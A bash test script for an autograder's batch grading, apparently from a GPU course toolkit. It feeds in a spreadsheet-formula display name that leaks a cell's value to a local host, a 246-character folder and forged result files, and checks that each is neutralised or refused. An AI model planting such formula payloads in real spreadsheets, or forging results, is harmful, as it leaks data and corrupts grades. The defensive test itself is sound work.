#!/usr/bin/env bash
# A hostile class through the real commands (docs/batch.md): a Gradescope export where a student's
# display name is a spreadsheet formula and a submission folder's name is 246 characters long, a result
# file forged after the batch, answers.yaml changed between two runs, and the rubric changed after
# grading. The batch grades everyone, every CSV neutralises the formula, `grader gradebook` refuses the
# forged result and the other rubric's results (exit 2, the file named), and a batch run again grades
# what changed and nothing else. Usage: batch_hostile_class.sh GRADER KIT_SOURCE_DIR
set -euo pipefail
grader=$1
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
chmod 711 "$work"  # a root grader's sandbox runs as uid 65534, which must reach the files (docs/sandbox.md)

# A small assignment of the course's own, with one written question, so that the class grades in seconds.
course="$work/course"
a="$course/assignments/row-copy"
mkdir -p "$a"
cat > "$a/row_copy.h" <<'H'
void row_copy(float* d_out, const float* d_in, int rows, int cols);
H
cat > "$a/harness.cpp" <<'H'
#include "kit/harness.h"
#include "row_copy.h"

namespace {
void call(const kit::DeviceArrays& a, const kit::Dims& d) {
  row_copy(a.out<float>(0), a.in<float>(0), static_cast<int>(d[0]), static_cast<int>(d[1]));
}
}  // namespace

const kit::Harness kit_harness = {"row-copy", {{"row_copy", call}}};
H
cat > "$a/rubric.yaml" <<'H'
assignment: row-copy
title: A hostile class
problem: copy
student_files: [row_copy.cu]
questions: questions.yaml
tolerance: {policy: exact}
correctness:
  - group: any size
    points: 10
    sizes: [3x5]
    seeds: 1
cpu_checks: {sanitizer_max_dim: 0, race_max_dim: 0}
H
cat > "$a/questions.yaml" <<'H'
questions:
  - id: threads
    points: 2
    kind: number
    text: How many threads?
    answer: 1024
H
chmod -R a+rX "$course"
export KIT_ROOT="$course"

# The class: a Gradescope export. Students set their own display names there.
class="$work/class"
formula='=HYPERLINK("http://127.0.0.1:9/?g="&D2,"grades")'
long="submission_$(printf 'x%.0s' $(seq 235))"  # 246 characters: too long for results/<name>.json.partial
for s in submission_1 "$long" submission_3; do
  mkdir -p "$class/$s"
  cat > "$class/$s/row_copy.cu" <<'H'
#include "row_copy.h"

__global__ void copyRows(float* out, const float* in, int rows, int cols)
{
    int r = blockIdx.y, c = blockIdx.x * blockDim.x + threadIdx.x;
    if (c < cols) out[r * cols + c] = in[r * cols + c];
}

void row_copy(float* d_out, const float* d_in, int rows, int cols)
{
    copyRows<<<dim3((cols + 31) / 32, rows), 32>>>(d_out, d_in, rows, cols);
}
H
  echo "threads: 1024" > "$class/$s/answers.yaml"
done
cat > "$class/submission_metadata.yml" <<Y
submission_1:
  :submitters:
  - :name: '$formula'
    :sid: '+1'
    :email: '@evil.example'
submission_3:
  :submitters:
  - :name: Ann Honest
    :sid: '3'
    :email: ann@example.edu
Y
chmod -R a+rX "$class"
out="$work/out"

fail() {
  echo "NOT AS EXPECTED: $1"
  for f in "$work"/*.txt "$out/gradebook.csv"; do [ -f "$f" ] && { echo "--- $f"; cat "$f"; }; done
  exit 1
}
batch() { "$grader" batch row-copy --submissions "$class" --out "$out" --jobs 2 --backend cpu > "$work/$1.txt" 2>&1 ||
            fail "the batch ($1) exited with $?"; }
row() { grep -F -- "$1" "$out/gradebook.csv" | tr -d '\r'; }
# refused WHAT PATTERN: `grader gradebook` must exit 2 saying PATTERN, and write nothing.
refused() {
  local code=0
  rm -f "$work/refused.csv"
  "$grader" gradebook --results "$out" --output "$work/refused.csv" > "$work/refused.txt" 2>&1 || code=$?
  [ "$code" -eq 2 ] || fail "gradebook took $1 (exit $code)"
  grep -qF -- "$2" "$work/refused.txt" || fail "gradebook refused $1 without saying '$2'"
  [ ! -e "$work/refused.csv" ] || fail "gradebook wrote a file for $1"
}

# 1. Everyone is graded; nobody's name stops the batch or reaches a spreadsheet as a formula.
batch first
[ "$(wc -l < "$out/gradebook.csv")" -eq 4 ] || fail "the gradebook does not have a row per student"
row "\"'=HYPERLINK(\"\"http://127.0.0.1:9/?g=\"\"&D2,\"\"grades\"\")\",\"'+1\",\"'@evil.example\",12,12," |
  grep -q ",graded," || fail "the formula's row is not neutralised, or not graded with every point"
row "$long,,,12,12," | grep -q ",graded," || fail "the 246-character folder was not graded"
row "Ann Honest,3,ann@example.edu,12,12," | grep -q . || fail "Ann's row"
ls "$out/results" | grep -q '^submission_x*~[0-9a-f]\{20\}\.json$' || fail "no result under a safe name for the long folder"
[ "$(stat -c %a "$out/grading.key")" = 600 ] || fail "the grading key is not the owner's alone"
for format in csv gradescope canvas; do
  "$grader" gradebook --results "$out" --format "$format" --output "$work/$format.csv" > /dev/null ||
    fail "gradebook --format $format refused the batch's own results"
  ! tr -d '\r' < "$work/$format.csv" | grep -qE '(^|,)[=+@-]' || fail "a $format cell starts with a formula sign"
  grep -qF "\"'=HYPERLINK(" "$work/$format.csv" || fail "the $format gradebook lost the student's name"
done

# 2. Only answers.yaml changes: the student is graded again, with the new answer.
echo "threads: 512" > "$class/submission_3/answers.yaml"
batch answers
grep -q "1 graded now, 2 kept from an earlier run" "$work/answers.txt" || fail "a changed answers.yaml kept the old grade"
row "Ann Honest,3,ann@example.edu,10,12," | grep -q . || fail "Ann's row after her answer changed"

# 3. A forged result: edited, or written by hand without the key, is refused by name; the batch regrades it.
cp "$out/results/submission_1.json" "$work/submission_1.json.kept"
python3 - "$out/results/submission_1.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
r["score"] = 25000000
json.dump(r, open(sys.argv[1], "w"))
PY
refused "an edited result" "submission_1.json' is refused: it does not carry the seal"
python3 - "$out/results/submission_1.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
del r["batch"]["hmac_sha256"]
json.dump(r, open(sys.argv[1], "w"))
PY
refused "a result without a seal" "submission_1.json' is refused: it carries no seal"
cp "$out/results/submission_3.json" "$out/results/submission_1.json"
refused "another student's result under this one's name" "holds the result of submission_3, not of submission_1"
batch forged
grep -q "1 graded now, 2 kept from an earlier run" "$work/forged.txt" || fail "the forged result was kept"
"$grader" gradebook --results "$out" --output "$work/again.csv" > /dev/null || fail "the regraded batch was refused"

# 4. The rubric changes after grading: its old results are refused, and a batch run again grades everyone.
sed -i 's/points: 10/points: 20/' "$a/rubric.yaml"
refused "results of another rubric" "was graded against another rubric than row-copy's rubric here"
batch rubric
grep -q "3 graded now, 0 kept from an earlier run" "$work/rubric.txt" || fail "results of the old rubric were kept"
row "Ann Honest,3,ann@example.edu,20,22," | grep -q . || fail "Ann's row under the new rubric"
echo "a hostile class: names neutralised, a 246-character folder graded, forged results and another rubric's refused"
